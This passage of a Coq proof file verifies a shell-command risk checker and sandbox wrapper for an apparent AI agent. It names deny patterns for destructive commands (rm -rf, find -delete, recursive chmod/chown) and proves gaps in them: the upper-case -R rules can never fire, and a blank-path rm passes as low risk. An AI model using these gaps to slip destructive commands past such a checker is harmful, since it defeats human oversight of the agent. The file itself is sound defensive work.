  destruct (p c) eqn:E; [|destruct H].
  destruct H as [<-|[]]. eauto.
Qed.

Lemma rests_lit : forall w t, In t (rests (lit w) (w ++ t)).
Proof.
  induction w as [|c w IH]; intros t; simpl; [left; reflexivity|].
  rewrite Ascii.eqb_refl. simpl. rewrite app_nil_r. apply IH.
Qed.

Lemma rests_alt_l : forall r1 r2 s t, In t (rests r1 s) -> In t (rests (RAlt r1 r2) s).
Proof. intros. simpl. apply in_or_app. auto. Qed.

Lemma rests_alt_r : forall r1 r2 s t, In t (rests r2 s) -> In t (rests (RAlt r1 r2) s).
Proof. intros. simpl. apply in_or_app. auto. Qed.

Lemma rests_star_refl : forall r s, In s (rests (RStar r) s).
Proof. intros r s. rewrite rests_star_eq. left. reflexivity. Qed.

(** A star of a one-character class runs over any text of that class. *)
Lemma rests_star_chr : forall p u t,
  str_forall p u = true -> In t (rests (RStar (RChr p)) (u ++ t)).
Proof.
  intros p u t Hu. rewrite rests_star_eq.
  assert (Hgen : forall n, String.length u < n ->
                 In t (star_of (rests (RChr p)) n (u ++ t))).
  { induction u as [|c u IH]; intros n Hn.
    - destruct n; [inversion Hn|]. left. reflexivity.
    - simpl in Hu. apply andb_prop in Hu as [Hc Hu].
      destruct n as [|n]; [inversion Hn|]. simpl in Hn.
      simpl. right. rewrite Hc. simpl. rewrite app_nil_r.
      assert (Hlt : Nat.ltb (String.length (u ++ t)) (S (String.length (u ++ t))) = true)
        by (apply Nat.ltb_lt; lia).
      rewrite Hlt. apply IH; [exact Hu | lia]. }
  apply Hgen. rewrite str_length_app. lia.
Qed.

(** Every remainder is a suffix of the text. *)
Lemma star_of_suffix : forall f,
  (forall s t, In t (f s) -> exists u, s = u ++ t) ->
  forall n s t, In t (star_of f n s) -> exists u, s = u ++ t.
Proof.
  intros f Hf n. induction n as [|n IH]; intros s t H; simpl in H.
  - destruct H as [<-|[]]. exists "". reflexivity.
  - destruct H as [<-|H]; [exists ""; reflexivity|].
    apply in_flat_map in H as [m [Hm Ht]].
    destruct (Nat.ltb _ _); [|destruct Ht].
    destruct (Hf s m Hm) as [u1 ->]. destruct (IH m t Ht) as [u2 ->].
    exists (u1 ++ u2). apply str_app_assoc'.
Qed.

Lemma rests_suffix : forall r s t, In t (rests r s) -> exists u, s = u ++ t.
Proof.
  induction r as [|p|r1 IH1 r2 IH2|r1 IH1 r2 IH2|r1 IH1|]; intros s t H.
  - destruct H as [<-|[]]. exists "". reflexivity.
  - apply rests_chr_inv in H as [c [_ ->]]. exists (String c ""). reflexivity.
  - apply rests_cat_inv in H as [m [Hm Ht]].
    destruct (IH1 s m Hm) as [u1 ->]. destruct (IH2 m t Ht) as [u2 ->].
    exists (u1 ++ u2). apply str_app_assoc'.
  - simpl in H. apply in_app_or in H as [H|H]; eauto.
  - rewrite rests_star_eq in H. exact (star_of_suffix _ IH1 _ _ _ H).
  - simpl in H. destruct (at_end s); [|destruct H].
    destruct H as [<-|[]]. exists "". reflexivity.
Qed.

Lemma matches_at_of_in : forall r s t, In t (rests r s) -> matches_at r s = true.
Proof. intros r s t H. unfold matches_at. destruct (rests r s); [destruct H | reflexivity]. Qed.

Lemma in_of_matches_at : forall r s, matches_at r s = true -> exists t, In t (rests r s).
Proof.
  intros r s H. unfold matches_at in H. destruct (rests r s) as [|t l]; [discriminate|].
  exists t. left. reflexivity.
Qed.

Lemma search_of_matches_at : forall r s, matches_at r s = true -> search r s = true.
Proof. intros r [|c s] H; simpl; [exact H | now rewrite H]. Qed.

Lemma search_inv : forall r s,
  search r s = true -> exists p s2, s = p ++ s2 /\ matches_at r s2 = true.
Proof.
  intros r s. induction s as [|c s IH]; simpl; intros H.
  - exists "", "". auto.
  - apply orb_prop in H as [H|H].
    + exists "", (String c s). auto.
    + destruct (IH H) as [p [s2 [-> H2]]]. exists (String c p), s2. auto.
Qed.

(** A match starting at the front of [w ++ t], found by [search] of any
    text that ends with it. *)
Lemma search_at : forall r p s t, In t (rests r s) -> search r (p ++ s) = true.
Proof.
  intros r p s t H. apply RegexFacts.search_app.
  apply search_of_matches_at. exact (matches_at_of_in r s t H).
Qed.

(** A character that some match has to read is in the text. *)
Lemma search_lit_tail_char : forall r w c s,
  search (RCat r (lit (w ++ String c ""))) s = true ->
  exists a b, s = a ++ String c b.
Proof.
  intros r w c s H. apply search_inv in H as [p [s2 [-> H2]]].
  apply in_of_matches_at in H2 as [t Ht].
  apply rests_cat_inv in Ht as [m [Hm Ht]].
  apply rests_suffix in Hm as [u1 ->].
  assert (Hw : forall w m t, In t (rests (lit (w ++ String c "")) m) ->
                             exists a b, m = a ++ String c b).
  { clear. induction w as [|d w IH]; intros m t H.
    - change (In t (rests (RCat (RChr (Ascii.eqb c)) REps) m)) in H.
      apply rests_cat_inv in H as [m1 [H1 H2]].
      apply rests_chr_inv in H1 as [d [Hd ->]].
      apply Ascii.eqb_eq in Hd. subst d. exists "", m1. reflexivity.
    - change (In t (rests (RCat (RChr (Ascii.eqb d)) (lit (w ++ String c ""))) m)) in H.
      apply rests_cat_inv in H as [m1 [H1 H2]].
      apply rests_chr_inv in H1 as [d' [_ ->]].
      destruct (IH m1 t H2) as [a [b ->]]. exists (String d' a), b. reflexivity. }
  destruct (Hw w m t Ht) as [a [b ->]].
  exists (p ++ u1 ++ a), b. rewrite <- !str_app_assoc'. reflexivity.
Qed.

End RegexSem.

Module PolicyExtra.

Import PyStr Regex Policy StrPred StrFacts RegexSem ExtraDefs.
Local Open Scope string_scope.

Lemma lower_char_not_R : forall c, not_R (lower_char c) = true.
Proof. intros [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma lower_not_R : forall s, str_forall not_R (lower s) = true.
Proof. induction s as [|c s IH]; simpl; [reflexivity|]. now rewrite lower_char_not_R, IH. Qed.

Lemma str_forall_lstrip : forall p s, str_forall p s = true -> str_forall p (lstrip s) = true.
Proof.
  intros p s. induction s as [|c s IH]; simpl; intros H; [reflexivity|].
  apply andb_prop in H as [H1 H2].
  destruct (is_space c); [auto | simpl; now rewrite H1, H2].
Qed.

Lemma str_forall_rstrip : forall p s, str_forall p s = true -> str_forall p (rstrip s) = true.
Proof.
  intros p s. induction s as [|c s IH]; simpl; intros H; [reflexivity|].
  apply andb_prop in H as [H1 H2]. specialize (IH H2).
  destruct (rstrip s) eqn:E.
  - destruct (is_space c); simpl; [reflexivity | now rewrite H1].
  - simpl. rewrite H1. exact IH.
Qed.

Lemma strip_lower_not_R : forall c, str_forall not_R (strip (lower c)) = true.
Proof.
  intros c. unfold strip. apply str_forall_rstrip, str_forall_lstrip, lower_not_R.
Qed.

Lemma not_R_no_R : forall a b, str_forall not_R (a ++ String "R" b) = false.
Proof.
  intros a b. rewrite RegexSem.str_forall_app. simpl.
  apply andb_false_r.
Qed.

(** A pattern [a b -R] needs an upper-case R in the text. *)
Lemma search_dash_R : forall a b s,
  search (RCat a (RCat b (lit "-R"))) s = true -> exists x y, s = x ++ String "R" y.
Proof.
  intros a b s H. apply search_inv in H as [p [s2 [-> H2]]].
  apply in_of_matches_at in H2 as [t Ht].
  apply rests_cat_inv in Ht as [m [Hm Ht]].
  apply rests_suffix in Hm as [u ->].
  assert (Hs : search (RCat b (lit ("-" ++ String "R" ""))) m = true)
    by (apply search_of_matches_at; exact (matches_at_of_in _ _ _ Ht)).
  destruct (search_lit_tail_char b "-" "R" m Hs) as [x [y ->]].
  exists (p ++ u ++ x), y. rewrite <- !str_app_assoc'. reflexivity.
Qed.

Lemma search_dash_R_lower : forall a b c,
  search (RCat a (RCat b (lit "-R"))) (strip (lower c)) = false.
Proof.
  intros a b c. destruct (search _ _) eqn:E; [|reflexivity].
  destruct (search_dash_R a b _ E) as [x [y Hxy]].
  pose proof (strip_lower_not_R c) as H. rewrite Hxy, not_R_no_R in H. discriminate.
Qed.

Lemma rests_lit_inv : forall w s t, In t (rests (lit w) s) -> s = w ++ t.
Proof.
  induction w as [|c w IH]; intros s t H.
  - destruct H as [<-|[]]. reflexivity.
  - change (In t (rests (RCat (RChr (Ascii.eqb c)) (lit w)) s)) in H.
    apply rests_cat_inv in H as [m [H1 H2]].
    apply rests_chr_inv in H1 as [d [Hd ->]]. apply Ascii.eqb_eq in Hd. subst d.
    rewrite (IH m t H2). reflexivity.
Qed.

(** Where [>>\s*\S+] matches, [>\s*\S+] matches too. *)
Lemma search_append_write : forall s,
  search (seq [lit ">>"; RStar ws; plus nonws]) s = true ->
  search (seq [lit ">"; RStar ws; plus nonws]) s = true.
Proof.
  intros s H. apply search_inv in H as [p [s2 [-> H2]]].
  apply in_of_matches_at in H2 as [t Ht].
  apply rests_cat_inv in Ht as [m [Hm _]].
  apply rests_lit_inv in Hm. subst s2.
  apply (search_at _ p _ m).
  apply (rests_cat_in _ _ _ (">" ++ m)); [exact (rests_lit ">" (">" ++ m))|].
  apply (rests_cat_in _ _ _ (">" ++ m)); [apply rests_star_refl|].
  apply (rests_cat_in _ _ _ m); [apply rests_chr_in; reflexivity|].
  apply rests_star_refl.
Qed.

Ltac split_searches s :=
  repeat match goal with
         | |- context [if search ?r s then _ else _] =>
             let E := fresh "E" in destruct (search r s) eqn:E
         end.


(** The three reasons [Recursive permission change], [Recursive ownership
    change] and [Appending to file] are never returned by [check_command]:
    the command is lower-cased before the patterns [chmod\s+-R] and
    [chown\s+-R] are searched, and [>>\s*\S+] is searched only after
    [>\s*\S+], which matches wherever it does. *)
Theorem check_command_dead_reasons : forall cfg c,
  reason (check_command cfg c) <> "Recursive permission change" /\
  reason (check_command cfg c) <> "Recursive ownership change" /\
  reason (check_command cfg c) <> "Appending to file".
Proof.
  intros cfg c. unfold check_command, get_blocked_patterns, BLOCKED_PATTERNS,
    HIGH_RISK_PATTERNS, MEDIUM_RISK_PATTERNS.
  assert (Hchmod : search (seq [lit "chmod"; plus ws; lit "-R"]) (strip (lower c)) = false)
    by apply search_dash_R_lower.
  assert (Hchown : search (seq [lit "chown"; plus ws; lit "-R"]) (strip (lower c)) = false)
    by apply search_dash_R_lower.
  pose proof (search_append_write (strip (lower c))) as Happ.
  set (s := strip (lower c)) in *.
  cbn [first_match].
  split_searches s;
    try match goal with H : true = false |- _ => discriminate H end;
    try match goal with H : true = true -> false = true |- _ =>
          discriminate (H eq_refl) end;
    destruct cfg; simpl; repeat split; discriminate.
Qed.


Lemma first_match_none : forall pats s,
  first_match pats s = None <-> existsb (fun pr => search (fst pr) s) pats = false.
Proof.
  induction pats as [|[p w] pats IH]; intros s; simpl; [tauto|].
  destruct (search p s); simpl; [split; discriminate | apply IH].
Qed.

(** A command is refused exactly when its risk is [BLOCKED], and that
    happens exactly when a blocked pattern is found in the stripped,
    lower-cased command; the confirmation setting plays no part. *)
Theorem check_command_refused_iff_blocked : forall cfg c,
  (allowed (check_command cfg c) = false <-> risk (check_command cfg c) = BLOCKED) /\
  (risk (check_command cfg c) = BLOCKED <-> blocked_match (strip (lower c)) = true).
Proof.
  intros cfg c. unfold check_command, blocked_match.
  change BLOCKED_PATTERNS with get_blocked_patterns.
  set (s := strip (lower c)).
  destruct (first_match get_blocked_patterns s) eqn:Eb.
  - cbn [allowed risk]. split; [tauto|]. split; [intros _|reflexivity].
    destruct (existsb (fun pr => search (fst pr) s) get_blocked_patterns) eqn:Ex;
      [reflexivity|].
    apply first_match_none in Ex. congruence.
  - assert (Ex : existsb (fun pr => search (fst pr) s) get_blocked_patterns = false)
      by (apply first_match_none; exact Eb).
    rewrite Ex.
    destruct (first_match HIGH_RISK_PATTERNS s);
      [|destruct (first_match MEDIUM_RISK_PATTERNS s);
        [destruct (cfg && search p_rm s)|]];
      simpl; split; split; intros H; discriminate H.
Qed.


(** A command made of white space only (the empty command included) is
    allowed as a LOW risk read-only operation. *)
Theorem check_command_blank : forall cfg c,
  all_space c = true ->
  check_command cfg c = mkPolicyResult true LOW "Read-only operation".
Proof.
  intros cfg c H. unfold check_command.
  rewrite (lower_all_space c H). unfold strip. rewrite (lstrip_all_space c H).
  destruct cfg; vm_compute; reflexivity.
Qed.

Lemma check_command_blank_witness :
  all_space " 	 " = true /\
  check_command true " 	 " = mkPolicyResult true LOW "Read-only operation".
Proof. split; [vm_compute; reflexivity | apply check_command_blank; vm_compute; reflexivity]. Defined.

End PolicyExtra.

Module QuotingExtra.

Import PyStr Json StrPred ShellWord RegexSem.
Import PolicyFacts (str_app_assoc).
Local Open Scope string_scope.

Lemma substring_full : forall s, substring 0 (String.length s) s = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma replace_aux_char : forall x new n s,
  String.length s < n ->
  replace_aux n (String x "") new s =
  str_concat_map (fun c => if Ascii.eqb c x then new else String c "") s.
Proof.
  intros x new n. induction n as [|n IH]; intros s Hn; [inversion Hn|].
  destruct s as [|c s]; [reflexivity|]. simpl in Hn |- *.
  destruct (ascii_dec x c) as [<-|Hne].
  - rewrite Ascii.eqb_refl. simpl. rewrite Nat.sub_0_r, substring_full.
    assert (P : String.prefix "" s = true) by (destruct s; reflexivity).
    rewrite P. f_equal. apply IH. lia.
  - assert (E : Ascii.eqb c x = false) by (apply Ascii.eqb_neq; congruence).
    rewrite E. simpl. f_equal. apply IH. lia.
Qed.

(** [s.replace(x, new)] for a one-character [x]. *)
Lemma replace_char : forall x new s,
  replace (String x "") new s =
  str_concat_map (fun c => if Ascii.eqb c x then new else String c "") s.
Proof. intros. apply replace_aux_char. lia. Qed.

(** A text quoted as the program does: inside single quotes, each ['] is
    replaced by ['] followed by [q], where [q] puts a literal ['] on the
    word and reopens the single quotes. *)
Lemma lex_single_quoted : forall f q,
  f "'"%char = String "'" q ->
  (forall d, Ascii.eqb d "'" = false -> f d = String d "") ->
  (forall acc rest, sh_word_st Plain acc (q ++ rest) =
                    sh_word_st Single (acc ++ "'") rest) ->
  forall acc c rest,
  sh_word_st Single acc (str_concat_map f c ++ String "'" rest)
  = sh_word_st Plain (acc ++ c) rest.
Proof.
  intros f q Hq Hd Hlex acc c. revert acc.
  induction c as [|d c IH]; intros acc rest.
  - simpl. now rewrite str_app_nil.
  - cbn [str_concat_map]. destruct (Ascii.eqb d "'") eqn:E.
    + apply Ascii.eqb_eq in E. subst d. rewrite Hq. simpl.
      rewrite str_app_assoc, Hlex, IH, <- str_app_assoc'. reflexivity.
    + rewrite (Hd d E). simpl. rewrite E, IH, <- str_app_assoc'. reflexivity.
Qed.

(** The command [CreateFile] renders is [echo] followed by one shell
    word that a POSIX shell reads back as exactly the file content,
    whatever characters it holds (quotes, backslashes, [$], newlines); the
    text after that word is [ > ] and the path, which is not quoted. *)
Theorem render_create_file_quoting : forall a path c,
  exists w,
    Actions.render (Actions.CreateFile a path (JStr c)) = ret (JStr ("echo " ++ w)) /\
    sh_word w = Some (c, " > " ++ PyVal.py_str path).
Proof.
  intros a path c.
  exists ("'" ++ replace "'" ("'" ++ String bs "'" ++ "'") c ++ "' > " ++ PyVal.py_str path).
  split; [reflexivity|].
  unfold sh_word. rewrite replace_char. simpl.
  erewrite lex_single_quoted;
    [ reflexivity | reflexivity
    | intros d Hd; rewrite Hd; reflexivity
    | intros; reflexivity ].
Qed.

(** The sandboxed command reaches [sandbox_wrapper.py] unchanged: the
    script [execute_sandboxed] hands to [bash -c] ends with the wrapper's
    path and one shell word that the shell reads back as exactly the
    command, followed by the closing newline; the wrapper started with
    that single argument runs [/bin/bash -c] on the locale export followed
    by the command. *)
Theorem wrapper_command_quoting : forall cgroup_path command,
  exists prefix w,
    Agent.wrapper_command cgroup_path command =
      prefix ++ "/sandbox/sandbox_wrapper.py " ++ w /\
    sh_word w = Some (command, Agent.nl ++ "    ") /\
    SandboxWrapper.main ["/sandbox/sandbox_wrapper.py"; command] =
      SandboxWrapper.Execvp "/bin/bash"
        ["/bin/bash"; "-c"; "export LC_ALL=C LANG=C; " ++ command].
Proof.
  intros cg cmd.
  exists (Agent.nl ++ "        echo $$ > " ++ cg ++ "/cgroup.procs" ++ Agent.nl
          ++ "        exec unshare --mount --pid --fork --mount-proc "
          ++ "            chroot " ++ Agent.SANDBOX_ROOT ++ " "
          ++ "            /usr/bin/python3 ").
  exists ("'" ++ replace "'" ("'" ++ String (ascii_of_nat 34) "'"
                              ++ String (ascii_of_nat 34) "'") cmd
          ++ "'" ++ Agent.nl ++ "    ").
  split; [|split].
  - unfold Agent.wrapper_command, Agent.SANDBOX_ROOT. simpl.
    rewrite str_app_assoc. reflexivity.
  - unfold sh_word. rewrite replace_char. simpl.
    erewrite lex_single_quoted;
      [ reflexivity | reflexivity
      | intros d Hd; rewrite Hd; reflexivity
      | intros; reflexivity ].
  - reflexivity.
Qed.

End QuotingExtra.

Module ActionsExtra.

Import PyStr Regex Policy Json PyVal Actions StrPred StrFacts RegexSem PolicyExtra.
Import PolicyFacts (str_app_assoc).
Local Open Scope string_scope.

Lemma lower_char_nl : forall c,
  Ascii.eqb (lower_char c) "010" = Ascii.eqb c "010".
Proof. intros [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma is_space_lower_char : forall c, is_space (lower_char c) = is_space c.
Proof. intros [[] [] [] [] [] [] [] []]; vm_compute; reflexivity. Qed.

Lemma no_nl_lower : forall s, no_nl s = true -> no_nl (lower s) = true.
Proof.
  unfold no_nl. induction s as [|c s IH]; simpl; intros H; [reflexivity|].
  apply andb_prop in H as [H1 H2]. rewrite lower_char_nl, H1. auto.
Qed.

Lemma all_space_lower : forall s, all_space (lower s) = all_space s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite is_space_lower_char, IH]. Qed.

Lemma rstrip_not_blank : forall s, all_space s = false -> rstrip s <> "".
Proof.
  induction s as [|c s IH]; simpl; intros H; [discriminate|].
  destruct (rstrip s) eqn:E.
  - destruct (is_space c) eqn:Ec; [|discriminate].
    simpl in H. destruct (all_space s); [discriminate | now exfalso; apply IH].
  - discriminate.
Qed.

Lemma rstrip_blank : forall s, all_space s = true -> rstrip s = "".
Proof. exact rstrip_all_space. Qed.

(** The risk of a command in which a HIGH pattern is found is HIGH or
    BLOCKED. *)
Lemma high_or_blocked_of_high : forall cfg c r why,
  In (r, why) HIGH_RISK_PATTERNS -> search r (strip (lower c)) = true ->
  risk (check_command cfg c) = HIGH \/ risk (check_command cfg c) = BLOCKED.
Proof.
  intros cfg c r why Hin Hs. unfold check_command.
  destruct (first_match get_blocked_patterns _); [now right|].
  destruct (first_match HIGH_RISK_PATTERNS _) eqn:Eh; [now left|].
  apply first_match_none in Eh.
  assert (Hex : existsb (fun pr => search (fst pr) (strip (lower c))) HIGH_RISK_PATTERNS = true)
    by (apply existsb_exists; exists (r, why); auto).
  congruence.
Qed.

(** With the confirmation setting on, the risk of a command in which
    [rm\s+] is found is HIGH or BLOCKED. *)
Lemma high_or_blocked_of_rm : forall c,
  search p_rm (strip (lower c)) = true ->
  risk (check_command true c) = HIGH \/ risk (check_command true c) = BLOCKED.
Proof.
  intros c Hs. unfold check_command.
  destruct (first_match get_blocked_patterns _); [now right|].
  destruct (first_match HIGH_RISK_PATTERNS _); [now left|].
  unfold MEDIUM_RISK_PATTERNS. cbn [first_match]. rewrite Hs. simpl. now left.
Qed.

Lemma rests_p_rm : forall u, In u (rests p_rm ("rm " ++ u)).
Proof.
  intros u. unfold p_rm, seq, plus.
  apply (rests_cat_in _ _ _ (" " ++ u)); [exact (rests_lit "rm" (" " ++ u))|].
  apply (rests_cat_in _ _ _ u); [apply rests_chr_in; reflexivity | apply rests_star_refl].
Qed.

Lemma strip_lower_rm : forall x,
  all_space x = false -> exists u, strip (lower ("rm " ++ x)) = "rm " ++ u.
Proof.
  intros x Hx. unfold strip. rewrite lower_app.
  change (lower "rm ") with "rm ".
  replace (lstrip ("rm " ++ lower x)) with ("rm " ++ lower x) by reflexivity.
  rewrite rstrip_app. destruct (rstrip (lower x)) eqn:E.
  - exfalso. apply (rstrip_not_blank (lower x)); [now rewrite all_space_lower | exact E].
  - eexists. reflexivity.
Qed.

Lemma search_rm_of_not_blank : forall x,
  all_space x = false -> search p_rm (strip (lower ("rm " ++ x))) = true.
Proof.
  intros x Hx. destruct (strip_lower_rm x Hx) as [u ->].
  apply (search_at _ "" _ u). apply rests_p_rm.
Qed.

Lemma rstrip_keep : forall x y, rstrip y = y -> y <> "" -> rstrip (x ++ y) = x ++ y.
Proof.
  intros x y H1 H2. rewrite rstrip_app, H1. destruct y; [congruence | reflexivity].
Qed.

Lemma all_space_app : forall a b, all_space (a ++ b) = all_space a && all_space b.
Proof. induction a as [|c a IH]; intros b; simpl; [reflexivity | now rewrite IH, andb_assoc]. Qed.

Lemma strip_lower_rm_r : forall x, exists t, strip (lower ("rm -r " ++ x)) = "rm -r" ++ t.
Proof.
  intros x. unfold strip. rewrite lower_app.
  change (lower "rm -r ") with "rm -r ".
  replace (lstrip ("rm -r " ++ lower x)) with ("rm -r " ++ lower x) by reflexivity.
  rewrite rstrip_app. destruct (rstrip (lower x)) as [|a s].
  - exists "". reflexivity.
  - exists (" " ++ String a s). reflexivity.
Qed.

Lemma strip_lower_find : forall p q,
  strip (lower ("find " ++ p ++ " -name '" ++ q ++ "' -delete")) =
  "find" ++ ((" " ++ lower p ++ " -name '" ++ lower q ++ "' ") ++ "-delete").
Proof.
  intros p q. rewrite !lower_app. unfold strip.
  change (lower "find ") with "find ".
  change (lower " -name '") with " -name '".
  change (lower "' -delete") with "' -delete".
  replace (lstrip ("find " ++ lower p ++ " -name '" ++ lower q ++ "' -delete"))
    with ("find " ++ lower p ++ " -name '" ++ lower q ++ "' -delete") by reflexivity.
  assert (H1 : rstrip (lower q ++ "' -delete") = lower q ++ "' -delete")
    by (apply rstrip_keep; [reflexivity | discriminate]).
  assert (H2 : rstrip (" -name '" ++ lower q ++ "' -delete") = " -name '" ++ lower q ++ "' -delete")
    by (apply rstrip_keep; [exact H1 | destruct (lower q); discriminate]).
  assert (H3 : rstrip (lower p ++ " -name '" ++ lower q ++ "' -delete")
               = lower p ++ " -name '" ++ lower q ++ "' -delete")
    by (apply rstrip_keep; [exact H2 | discriminate]).
  rewrite rstrip_keep; [|exact H3 | destruct (lower p); discriminate].
  rewrite !str_app_assoc. reflexivity.
Qed.

(** [DeleteFiles] renders a command that [check_command], with the
    confirmation setting on, rates HIGH or BLOCKED, in all four of its
    forms: [find ... -delete] when the path and the pattern have no line
    break, [rm path/pattern], [rm -r path], and [rm path] when the path
    is not blank. *)
Theorem render_delete_files_risk : forall a path pattern recursive,
  (truthy pattern && truthy recursive = true ->
   no_nl (py_str path) && no_nl (py_str pattern) = true) ->
  (truthy pattern || truthy recursive = false -> all_space (py_str path) = false) ->
  exists cmd,
    render (DeleteFiles a path pattern recursive) = ret (JStr cmd) /\
    (risk (check_command true cmd) = HIGH \/ risk (check_command true cmd) = BLOCKED).
Proof.
  intros a path pattern recursive Hnl Hblank. unfold render. cbv beta iota.
  destruct (truthy pattern), (truthy recursive); simpl in Hnl, Hblank;
    eexists; (split; [reflexivity|]).
  - specialize (Hnl eq_refl). apply andb_prop in Hnl as [Hp Hq].
    apply (high_or_blocked_of_high _ _ (seq [lit "find"; RStar dot; lit "-delete"])
             "Find with delete"); [simpl; tauto|].
    rewrite strip_lower_find.
    apply (search_at _ "" _ ""). rewrite <- (str_app_nil "-delete").
    apply (rests_cat_in _ _ _ ((" " ++ lower (py_str path) ++ " -name '"
                                 ++ lower (py_str pattern) ++ "' ") ++ "-delete" ++ ""));
      [apply rests_lit|].
    apply (rests_cat_in _ _ _ ("-delete" ++ "")); [|apply rests_lit].
    apply rests_star_chr.
    apply no_nl_lower in Hp. apply no_nl_lower in Hq. unfold no_nl in Hp, Hq.
    rewrite !str_forall_app, Hp, Hq. reflexivity.
  - apply high_or_blocked_of_rm. apply search_rm_of_not_blank.
    rewrite all_space_app. simpl. apply andb_false_r.
  - apply (high_or_blocked_of_high _ _ (seq [lit "rm"; plus ws; lit "-"; cls "rf"])
             "Recursive/forced delete"); [simpl; tauto|].
    destruct (strip_lower_rm_r (py_str path)) as [t ->].
    apply (search_at _ "" _ t).
    apply (rests_cat_in _ _ _ (" -r" ++ t)); [apply rests_lit|].
    apply (rests_cat_in _ _ _ ("-r" ++ t));
      [apply (rests_cat_in _ _ _ ("-r" ++ t)); [apply rests_chr_in; reflexivity | apply rests_star_refl]|].
    apply (rests_cat_in _ _ _ ("r" ++ t)); [exact (rests_lit "-" ("r" ++ t))|].
    apply rests_chr_in. reflexivity.
  - apply high_or_blocked_of_rm. apply search_rm_of_not_blank. exact (Hblank eq_refl).
Qed.

Lemma render_delete_files_risk_witness :
  (truthy (JStr "*.log") && truthy (JBool true) = true ->
   no_nl (py_str (JStr "logs")) && no_nl (py_str (JStr "*.log")) = true) /\
  (truthy (JStr "*.log") || truthy (JBool true) = false ->
   all_space (py_str (JStr "logs")) = false) /\
  exists cmd,
    render (DeleteFiles (JStr "delete_files") (JStr "logs") (JStr "*.log") (JBool true))
      = ret (JStr cmd) /\
    (risk (check_command true cmd) = HIGH \/ risk (check_command true cmd) = BLOCKED).
Proof.
  split; [intros _; vm_compute; reflexivity|].
  split; [intros H; vm_compute in H; discriminate H|].
  apply render_delete_files_risk.
  - intros _. vm_compute. reflexivity.
  - intros H. vm_compute in H. discriminate H.
Defined.

(** The edge of the last form: [DeleteFiles] with no pattern, not
    recursive and a blank path renders [rm] and the blank path, which
    [check_command] rates as an allowed LOW risk read-only operation. *)
Theorem render_delete_files_blank_path : forall cfg a path pattern recursive,
  truthy pattern = false -> truthy recursive = false ->
  all_space (py_str path) = true ->
  render (DeleteFiles a path pattern recursive) = ret (JStr ("rm " ++ py_str path)) /\
  check_command cfg ("rm " ++ py_str path) = mkPolicyResult true LOW "Read-only operation".
Proof.
  intros cfg a path pattern recursive Hp Hr Hb. unfold render. rewrite Hp, Hr.
  split; [reflexivity|].
  assert (Hs : strip (lower ("rm " ++ py_str path)) = "rm").
  { unfold strip. rewrite lower_app, (lower_all_space _ Hb).
    change (lower "rm ") with "rm ".
    replace (lstrip ("rm " ++ py_str path)) with ("rm " ++ py_str path) by reflexivity.
    rewrite rstrip_app, (rstrip_all_space _ Hb). reflexivity. }
  unfold check_command. rewrite Hs. destruct cfg; vm_compute; reflexivity.
Qed.

Lemma render_delete_files_blank_path_witness :
  truthy JNull = false /\ truthy (JBool false) = false /\ all_space (py_str (JStr "  ")) = true /\
  render (DeleteFiles (JStr "delete_files") (JStr "  ") JNull (JBool false))
    = ret (JStr ("rm " ++ py_str (JStr "  "))) /\
  check_command true ("rm " ++ py_str (JStr "  ")) = mkPolicyResult true LOW "Read-only operation".
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [vm_compute; reflexivity|].
  apply render_delete_files_blank_path; vm_compute; reflexivity.
Defined.

End ActionsExtra.

Module ExecutorExtra.

Import PyStr Json PyVal Actions Planner Executor ExecutorFacts ExtraDefs.
Local Open Scope string_scope.

Lemma adapt_tokens_mkdir : forall ts f,
  adapt_tokens ts = Some f -> exists p, f = "mkdir -p " ++ p /\ p <> "".
Proof.
  induction ts as [|t ts IH]; simpl; intros f H; [discriminate|].
  destruct (contains "/" t && negb (startswith t "-")); [|exact (IH f H)].
  destruct (String.eqb (join "/" (removelast (split_char "/" t))) "") eqn:E;
    [exact (IH f H)|].
  injection H as <-. eexists. split; [reflexivity|].
  intros Hp. rewrite Hp in E. discriminate.
Qed.

Lemma try_adapt_mkdir : forall c o f,
  try_adapt c o = Some f -> exists p, f = "mkdir -p " ++ p /\ p <> "".
Proof.
  unfold try_adapt. intros c o f H.
  destruct (contains _ o); [exact (adapt_tokens_mkdir _ f H) | discriminate].
Qed.

Lemma allowed_not_blocked : forall cd c,
  Policy.allowed (Policy.check_command cd c) = true ->
  Policy.risk_value (Policy.risk (Policy.check_command cd c)) <> "blocked".
Proof.
  intros cd c. unfold Policy.check_command.
  destruct (Policy.first_match _ _); [discriminate|].
  destruct (Policy.first_match Policy.HIGH_RISK_PATTERNS _); [intros _; discriminate|].
  destruct (Policy.first_match Policy.MEDIUM_RISK_PATTERNS _);
    [destruct (cd && _)|]; intros _; discriminate.
Qed.

Ltac clean_pairs :=
  repeat match goal with
         | E : match ?x with _ => _ end = (_, _) |- _ =>
             let F := fresh "F" in destruct x eqn:F; simpl in E
         | E : (_, _) = (_, _) |- _ => injection E as; subst
         end.

Section Steps.

Variable W : Type.
Variable execute_fn : W -> string -> string * W.
Variable approve_fn : W -> string -> bool * W.
Variable confirm_delete : bool.

Lemma step_result_log : forall sbs ctx st step r st',
  step_result W execute_fn approve_fn confirm_delete sbs ctx st step = inr (r, st') ->
  exists L,
    exec_log W st' = app (exec_log W st) L /\
    runs_ok confirm_delete L /\
    length L <= (if ran r then 3 else 0) /\
    result_ok r /\
    (sbs = false -> sr_skipped r = true -> sr_risk r = "high" ->
     Policy.risk (Policy.check_command confirm_delete (sr_command r)) = Policy.HIGH).
Proof.
  intros sbs ctx st step r st' H.
  unfold step_result, call_exec, call_approve, bind, ret, raise in H.
  split_matches H; try discriminate H; clean_pairs; injection H as <- <-;
    (eexists; split;
     [cbn [exec_log]; rewrite <- ?app_assoc;
      first [symmetry; apply app_nil_r | reflexivity] |]);
    cbn [ran sr_skipped sr_risk sr_success sr_error sr_command].
  all: split;
    [ intros c Hc; simpl in Hc;
      repeat (destruct Hc as [<-|Hc];
              [first [ left; apply negb_false_iff; assumption
                     | right; eapply try_adapt_mkdir; eassumption ] |]);
      destruct Hc
    | ].
  all: split;
    [ unfold ran; cbn [sr_skipped sr_risk];
      try match goal with
          E : negb (Policy.allowed (Policy.check_command ?cd ?c)) = false |- _ =>
            rewrite (proj2 (String.eqb_neq _ _)
                       (allowed_not_blocked cd c (proj1 (negb_false_iff _) E)))
        end; simpl; lia
    | ].
  all: split;
